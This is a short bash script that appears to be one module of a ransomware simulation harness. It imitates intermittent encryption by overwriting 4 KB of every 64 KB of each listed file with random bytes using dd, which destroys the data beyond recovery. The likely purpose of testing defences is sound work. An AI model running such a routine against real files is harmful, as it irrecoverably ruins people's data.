#!/usr/bin/env bash
# Partial (intermittent) encryption: 4 KB of random bytes every 64 KB of each
# file, in place, the way fast modern ransomware spoils large files.
. "$(dirname "$0")/attack-lib.sh"
for i in "${!FILES[@]}"; do
	time_left || break
	for ((block = 0; block * 4096 < SIZES[i]; block += 16)); do
		attempt dd if=/dev/urandom of="${FILES[i]}" bs=4096 count=1 seek="$block" conv=notrunc status=none
	done
done
